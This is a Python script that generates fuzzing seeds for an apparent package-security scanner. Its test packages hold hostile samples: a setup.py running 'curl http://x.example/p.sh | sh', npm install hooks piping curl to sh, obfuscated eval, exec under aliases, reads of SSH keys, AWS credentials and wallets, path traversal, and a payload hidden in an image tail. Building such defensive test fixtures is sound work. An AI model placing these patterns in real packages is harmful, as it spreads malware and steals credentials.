#!/usr/bin/env python3
"""Writes seed inputs for the `package` fuzz target (fuzz/README.md).

Usage: seeds.py OUT_DIR          seeds for the `package` target
       seeds.py --text OUT_DIR   seeds for the `text` target

Each package seed is a selector byte (how fuzz_targets/package.rs packs the
rest) followed by a small package of one shape the readers know. Each text
seed is a selector byte (0: a text or diff, 2: a config, 3: a policy; see
fuzz_targets/text.rs) followed by a fixture or shipped policy file. All contents
are harmless text written here; the "evil" ones only name a capability.
Standard library only.
"""
import base64, gzip, hashlib, io, os, sys, tarfile, zipfile

SETUP = b"from setuptools import setup\nsetup(name='pkg', version='1.0', packages=['pkg'])\n"
INIT = b"def add(a, b):\n    return a + b\n"
EVIL = b"import os\nos.system('curl http://x.example/p.sh | sh')\n"
PKG_JSON = b'{"name":"pkg","version":"1.0.0","scripts":{"postinstall":"node install.js"}}\n'

# Selectors, as `pack` in fuzz_targets/package.rs reads them.
TAR_GZ_BY_HARNESS, TAR_GZ_RAW, TAR, ZIP, WHEEL, TGZ_BY_HARNESS, BZ2_BY_HARNESS = 0, 1, 2, 3, 4, 5, 6
DIFF = 0x80


def tar(members, fmt=tarfile.GNU_FORMAT, pax=None):
    b = io.BytesIO()
    with tarfile.open(fileobj=b, mode="w", format=fmt, pax_headers=pax) as t:
        for name, kind, data, *attrs in members:
            ti = tarfile.TarInfo(name)
            for k, v in (attrs[0] if attrs else {}).items():
                setattr(ti, k, v)
            if kind == "f":
                ti.size = len(data)
                t.addfile(ti, io.BytesIO(data))
            else:
                ti.type = {"l": tarfile.SYMTYPE, "h": tarfile.LNKTYPE, "d": tarfile.DIRTYPE,
                           "p": tarfile.FIFOTYPE, "c": tarfile.CHRTYPE}[kind]
                ti.linkname = data
                t.addfile(ti)
    return b.getvalue()


def zipb(entries, **kw):
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w", **kw) as z:
        for name, data, mode, comp in entries:
            zi = zipfile.ZipInfo(name)
            zi.compress_type = comp
            if mode is not None:
                zi.external_attr = mode << 16
                zi.create_system = 3
            z.writestr(zi, data)
    return b.getvalue()


def main(out):
    os.makedirs(out, exist_ok=True)
    D, S = zipfile.ZIP_DEFLATED, zipfile.ZIP_STORED
    tars = {
        "sdist": tar([("pkg-1.0/setup.py", "f", SETUP), ("pkg-1.0/pkg/__init__.py", "f", INIT),
                      ("pkg-1.0/README.md", "f", b"# pkg\nAdds.\n")]),
        "sdist-pax": tar([("pkg-1.0/setup.py", "f", SETUP), ("pkg-1.0/" + "a" * 120 + ".py", "f", INIT)],
                         tarfile.PAX_FORMAT),
        "pax-override": tar([("p-1/setup.py", "f", SETUP), ("p-1/\u00fc.py", "f", INIT)],
                            tarfile.PAX_FORMAT, {"comment": "x", "path": "override.py"}),
        "links": tar([("pkg-1.0/setup.py", "f", SETUP), ("pkg-1.0/etc", "l", "/etc"),
                      ("pkg-1.0/etc/x", "f", b"x"), ("pkg-1.0/h", "h", "pkg-1.0/setup.py")]),
        "long-names": tar([("p-1/" + "d" * 150 + "/x.py", "f", INIT), ("p-1/" + "l" * 120, "l", "x" * 200)]),
        "specials": tar([("p-1/fifo", "p", ""), ("p-1/chr", "c", ""), ("p-1/setup.py", "f", SETUP)]),
        "odd-paths": tar([("p-1/setup.py", "f", SETUP, {"mode": 0o4755}), ("./p-1/./a//b.py", "f", INIT)]),
        "duplicate": tar([("p-1/setup.py", "f", SETUP), ("p-1/setup.py", "f", SETUP + EVIL)]),
        "evil": tar([("pkg-1.0/setup.py", "f", SETUP + EVIL), ("pkg-1.0/pkg/__init__.py", "f", INIT)]),
        "npm": tar([("package/package.json", "f", PKG_JSON),
                    ("package/install.js", "f", b"require('child_process').exec('id')\n"),
                    ("package/index.js", "f", b"module.exports = 1;\n")]),
        "npm-eval": tar([("package/package.json", "f", b'{"name":"a","scripts":{"preinstall":"curl x|sh"}}'),
                         ("package/index.js", "f", b'eval(atob("Y29uc29sZS5sb2coMSk="))\n')]),
        "nested": tar([("pkg-1.0/setup.py", "f", SETUP),
                       ("pkg-1.0/inner.zip", "f", zipb([("a.py", INIT, None, D)]))]),
        "dirs": tar([("pkg-1.0/", "d", ""), ("pkg-1.0/pkg/", "d", ""), ("pkg-1.0/pkg/m.py", "f", INIT)]),
        "opaque": tar([("p-1/x.so", "f", b"\x7fELF" + b"\0" * 60), ("p-1/m.wasm", "f", b"\0asm\1\0\0\0"),
                       ("p-1/__pycache__/m.cpython-312.pyc", "f", b"\xcb\r\r\n" + b"\0" * 12),
                       ("p-1/m.py", "f", INIT)]),
    }
    zips = {
        "wheel": zipb([("pkg/__init__.py", INIT, None, D), ("pkg-1.0.dist-info/METADATA", b"Name: pkg\nVersion: 1.0\n", None, D),
                       ("pkg-1.0.dist-info/RECORD", b"", None, D)]),
        "zip-sdist": zipb([("pkg-1.0/setup.py", SETUP, None, D), ("pkg-1.0/pkg/__init__.py", INIT, None, D)]),
        "zip-link": zipb([("pkg/__init__.py", INIT, 0o100644, S), ("pkg/link", "pkg/__init__.py", 0o120777, S),
                          ("pkg/", b"", 0o40755, S)]),
        "zip-traversal": zipb([("../evil.py", INIT, None, S), ("/abs.py", INIT, None, D), ("a/../../b.py", INIT, None, S)]),
        "zip-zip64": zipb([("pkg/big.py", INIT * 50, None, D)], allowZip64=True),
        "zip-nested": zipb([("pkg/vendored.whl", zipb([("inner/__init__.py", INIT, None, D)]), None, S),
                            ("pkg/__init__.py", INIT, None, D)]),
        # What an install writes besides the package's own files (session 26):
        # pip's `.data` schemes, console scripts, start-up hooks, other
        # distributions' modules.
        "wheel-placement": zipb([("pkg/__init__.py", INIT, None, D),
                                 ("pkg-1.0.data/scripts/pip", b"#!python\nimport pkg\n", None, D),
                                 ("pkg-1.0.data/data/pip.conf", b"[global]\nindex-url = http://x.invalid/\n", None, D),
                                 ("pkg-1.0.data/purelib/certifi/cacert.pem", b"-----BEGIN CERTIFICATE-----\n", None, D),
                                 ("pkg-1.0.data/data/etc/conda/activate.d/x.sh", b"echo hi\n", None, D),
                                 ("pkg-1.0.dist-info/entry_points.txt",
                                  b"[console_scripts]\npython3 = pkg:main\n[gui_scripts]\nx = pkg.m:run\n", None, D),
                                 ("pkg-1.0.dist-info/METADATA", b"Name: pkg\nVersion: 1.0\n", None, D),
                                 ("pkg-1.0.dist-info/RECORD", b"", None, D)]),
        "wheel-startup": zipb([("pkg.pth", b"import pkg\n", None, D), ("sitecustomize.py", INIT, None, D),
                               ("pkg/__init__.py", b"open(os.path.expanduser('~/.bashrc'), 'a').write('x')\n", None, D),
                               ("pkg-1.0.dist-info/METADATA", b"Name: pkg\nVersion: 1.0\n", None, D)]),
    }
    tars["manifest-scripts"] = tar([
        ("pkg-1.0/setup.cfg", "f", b"[options.entry_points]\nconsole_scripts =\n    pip = pkg:main\n"),
        ("pkg-1.0/pyproject.toml", "f", b'[project.scripts]\n"python" = "pkg.cli:run"\n[tool.x]\nd = "pip.conf"\n'),
        ("pkg-1.0/setup.py", "f", SETUP.replace(b")", b", data_files=[('', ['pip.ini'])])")),
        ("pkg-1.0/pkg/__init__.py", "f", b"open('/home/u/.npmrc').read()\n")])
    tars["npm-bin"] = tar([("package/package.json", "f", b'{"name":"a","bin":{"node":"x.js","sh":"y.js"}}'),
                           ("package/x.js", "f", b"#!/usr/bin/env node\n"), ("package/y.js", "f", b"1\n")])
    # Code that loads or runs a file by a path built from literals (session 27).
    tars["launched"] = tar([
        ("package/package.json", "f", b'{"name":"a","main":"index.js","imports":{"#m":"./docs/n.txt"}}'),
        ("package/index.js", "f", b"const p = require('path');\nrequire(p.join(__dirname, 'docs', 'n.txt'));\n"
                                   b"require('child_process').fork(`./docs/${x}n.txt`, [], {a: [1, (2)]});\n"
                                   b"require('child_process').spawn(process.execPath, ['-e', 'x', 'docs/n.txt']);\n"),
        ("package/docs/n.txt", "f", b"module.exports = 1;\n")])
    tars["launched-py"] = tar([
        ("p-1/setup.py", "f", SETUP),
        ("p-1/p/__init__.py", "f", b"import subprocess, sys\nsubprocess.run([sys.executable, os.path.join(D, 'data', 'x.csv')])\n"
                                     b"os.system(rf'{sys.executable} -u data/x.csv')\n"),
        ("p-1/p/data/x.csv", "f", b"a,b\n")])
    # Session 33: a package.json npm reads past a byte-order mark, bundler
    # entries, JavaScript's Unicode spacing and line breaks, a block
    # comment with code after it; an import path written through another
    # name, and a manifest whose source folder is the tests.
    tars["npm-spacing"] = tar([
        ("package/package.json", "f", b'\xef\xbb\xbf{"name":"a","browser":{"./index.js":"./docs/n.txt","fs":false},'
                                      b'"module":"test/m.js","scripts":{"postinstall":"node i.js"}}'),
        ("package/index.js", "f", "const\u00a0e\u3000=\u2009eval;\n// c\u2028e(s)\r\n/* a */ eval?.(s)\n  * eval.call(null, s)\n".encode()),
        ("package/node_modules/@s/d/package.json", "f", b'{"name":"\\ud800","scripts":{"install":"x"}}'),
        ("package/docs/n.txt", "f", b"module.exports = 1;\n")])
    tars["py-aliases"] = tar([
        ("p-1/pyproject.toml", "f", b'[tool.setuptools]\npackage-dir = {"" = "tests/src"}\n'
                                    b'[tool.hatch.build.targets.wheel.force-include]\n"tests/h.py" = "p/h.py"\n'),
        ("p-1/setup.cfg", "f", b"[options]\npackage_dir =\n    =tests/src\n"),
        ("p-1/p/__init__.py", "f", b"import sys as _s\nfrom sys import (path as p,\n)\n_s.path.insert(0, 'tests')\np += ['x']\n"),
        ("p-1/tests/src/p/__init__.py", "f", b"# n\rexec(s)\n")])
    # exec and Function by other names, key files and wallets, Node's
    # module paths (session 34).
    tars["runner-aliases"] = tar([
        ("package/package.json", "f", b'{"name":"a","main":"index.js"}'),
        ("package/index.js", "f", b"module.paths.unshift(__dirname + '/test');\nrequire('h');\n"
                                   b"[].constructor.constructor(s)(); Reflect.construct(Function, [s]);\n"
                                   b"fs.readFileSync(os.homedir() + '/.ssh/id_rsa');\n"),
        ("package/test/h.js", "f", b"Object.constructor(s)();\n"),
        ("p-1/p/__init__.py", "f", b"import builtins as _b\nfrom builtins import (\n    exec as run,\n)\n"
                                   b"_b.exec(s); run(s); vars(__builtins__)['ex' 'ec'](s)\n"
                                   b"__import__('built' + 'ins').eval(s)\nc = code.InteractiveConsole()\nc.push(s)\n"
                                   b"open(os.path.join(h, '.aws', 'credentials')); p = 'Electrum', 'wallets'\n")])
    # A path held in a name the file assigns (session 28).
    tars["launched-named"] = tar([
        ("package/package.json", "f", b'{"name":"a","main":"index.js"}'),
        ("package/index.js", "f", b"const p = require('path').join(__dirname, 'docs', 'n.txt'), q = `./x`;\n"
                                   b"let t; t = __dirname + '/docs/n.txt'\nrequire(p); fork(t, []); x == p;\n"
                                   b"function f(a = './docs/n.txt') { return require(a); }\n"
                                   b"const s = './docs/n.txt'; spawn(process.execPath, [s, q]);\n"),
        ("package/docs/n.txt", "f", b"module.exports = 1;\n")])
    # What a build runs (session 31): a test tree's build script and
    # source, a document a build script includes, build settings that
    # import the tests.
    tars["build-runs"] = tar([
        ("p-1/CMakeLists.txt", "f", b"project(p C)\nadd_subdirectory(tests/cmake)\n"
                                     b"INCLUDE(\"${CMAKE_CURRENT_SOURCE_DIR}/docs/b.txt\")\nadd_library(m tests/m.c)\n"),
        ("p-1/meson.build", "f", b"project('p', 'c')\nsubdir('tests')\nsubdir(get_option('d'))\n"),
        ("p-1/Makefile", "f", b"include docs/rules.txt common.mk\n-include $(D)\nall:\n\tinclude x\n"),
        ("p-1/setup.py", "f", b"from setuptools import setup, Extension\n"
                               b"setup(ext_modules=[Extension('m', sources=glob.glob('tests/*.c'))])\n"),
        ("p-1/pyproject.toml", "f", b'[build-system]\nbuild-backend = "h"\nbackend-path = ["tests"]\n'
                                     b'[tool.scikit-build]\ncmake.source-dir = "tests/cmake"\n'
                                     b'[tool.setuptools]\ncmdclass = {build_py = "tests.h.B"}\n'
                                     b'[tool.hatch.build.hooks.custom]\npath = "tests/h.py"\n'),
        ("p-1/setup.cfg", "f", b"[metadata]\nversion = attr: tests.h.V\n"),
        ("p-1/tests/cmake/CMakeLists.txt", "f", b"execute_process(COMMAND sh -c id)\n"),
        ("p-1/tests/meson.build", "f", b"run_command('id')\n"),
        ("p-1/tests/m.c", "f", b"int m;\n"), ("p-1/tests/h.py", "f", b"exec(x)\n"),
        ("p-1/docs/b.txt", "f", b"message(x)\n"), ("p-1/docs/rules.txt", "f", b"X := $(shell id)\n")])
    # What Jupyter, fish and entry points run (session 32): a kernelspec, a
    # setting, Python configuration, an entry point into the tests, and an
    # import of a test module by another name than `tests`.
    zips["jupyter"] = zipb([
        ("p-1.data/data/share/jupyter/kernels/python3/kernel.json", b'{"argv": ["sh", "-c", "id", "-m", "p.tests.k"]}', None, D),
        ("p-1.data/data/etc/jupyter/jupyter_server_config.d/p.json", b'{"ServerApp": {"jpserver_extensions": {"p.testing.e": true}}}', None, D),
        ("p-1.data/data/etc/jupyter/jupyter_server_config.py", b"c.ServerApp.x = 1\n", None, D),
        ("p-1.data/data/share/fish/vendor_conf.d/p.fish", b"set -gx X 1\n", None, D),
        ("p-1.dist-info/entry_points.txt", b"[console_scripts]\np = p.tests.h:main\n[pytest11]\nq = p.test_x\n", None, D),
        ("p/__init__.py", b"from .testing import h\nimport p.test_x, os\nfrom ..x import y\n__import__('p.conftest')\n", None, D),
        ("p/testing/__init__.py", b"", None, D), ("p/testing/h.py", b"exec(x)\n", None, D),
        ("p/test_x.py", b"eval(y)\n", None, D), ("p/tests/h.py", b"exec(z)\n", None, D)])
    # A zip with bytes after its end record, and one inside a file's tail.
    zips["zip-appended"] = zipb([("pkg/__init__.py", INIT, None, D)]) + b"PK\x05\x06" + b"\0" * 18
    tars["tail-zip"] = tar([("p-1/setup.py", "f", SETUP),
                            ("p-1/data.bin", "f", b"\x89PNG\r\n" + zipb([("__main__.py", EVIL, None, S)]))])
    seeds = []
    for t in tars.values():
        seeds += [(TAR_GZ_BY_HARNESS, t), (TAR, t), (TAR_GZ_RAW, gzip.compress(t)), (BZ2_BY_HARNESS, t)]
    seeds.append((TGZ_BY_HARNESS, tars["npm"]))
    for z in zips.values():
        seeds += [(ZIP, z), (WHEEL, z)]
    # Version diffs: the second byte says where the old package ends.
    old, new = tars["sdist"], tars["evil"]
    for sel in (DIFF | TAR_GZ_BY_HARNESS, DIFF | TAR, DIFF | (TAR << 4) | TAR):
        cut = (len(old) * 255) // (len(old) + len(new))
        seeds.append((sel, bytes([cut]) + old + new))
    # A wheel upgrade (0xD3: both halves packed as wheels, the base named
    # pkg-0.9): its own folders pair, unchanged files are the base's, and
    # its WHEEL and RECORD may pass as a version bump. The base's comment
    # pads it so that the cut falls exactly between the two wheels.
    def wheel(version, core, gen):
        files = [("pkg/__init__.py", b"import marshal\nload = marshal.loads\n"), ("pkg/core.py", core),
                 (f"pkg-{version}.dist-info/METADATA", f"Name: pkg\nVersion: {version}\n".encode()),
                 (f"pkg-{version}.dist-info/WHEEL", f"Wheel-Version: 1.0\nGenerator: {gen}\n".encode())]
        rows = "".join(f"{n},sha256={base64.urlsafe_b64encode(hashlib.sha256(d).digest()).rstrip(b'=').decode()},{len(d)}\n"
                       for n, d in files)
        files.append((f"pkg-{version}.dist-info/RECORD", (rows + f"pkg-{version}.dist-info/RECORD,,\n").encode()))
        return files

    def wheel_zip(files, comment=b""):
        b = io.BytesIO()
        with zipfile.ZipFile(b, "w") as z:
            for n, d in files:
                z.writestr(n, d, zipfile.ZIP_DEFLATED)
            z.comment = comment
        return b.getvalue()

    new = wheel_zip(wheel("1.0", INIT, "bdist_wheel (0.45)"))
    for pad in range(4096):
        old = wheel_zip(wheel("0.9", INIT + b"# old\n", "bdist_wheel (0.44)"), b"x" * pad)
        total = len(old) + len(new)
        fits = [b for b in range(256) if (b * total) // 255 == len(old)]
        if fits:
            seeds.append((0xD3, bytes([fits[0]]) + old + new))
            break
    for i, (sel, body) in enumerate(seeds):
        with open(os.path.join(out, f"seed-{i:03d}"), "wb") as f:
            f.write(bytes([sel]) + body)
    print(f"{len(seeds)} seeds in {out}")


def text_seeds(out):
    os.makedirs(out, exist_ok=True)
    root = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..")
    fx = os.path.join(root, "tests", "fixtures")
    kinds = [(0, os.path.join(fx, "text")), (0, os.path.join(fx, "diffs")), (2, os.path.join(fx, "config")),
             (3, os.path.join(fx, "policies")), (3, os.path.join(root, "policies"))]
    n = 0
    for sel, d in kinds:
        for name in sorted(os.listdir(d)):
            with open(os.path.join(d, name), "rb") as f:
                body = f.read(60000)
            with open(os.path.join(out, f"seed-{n:03d}"), "wb") as f:
                f.write(bytes([sel]) + body)
            n += 1
    print(f"{n} seeds in {out}")


if __name__ == "__main__":
    if sys.argv[1] == "--text":
        text_seeds(sys.argv[2])
    else:
        main(sys.argv[1])
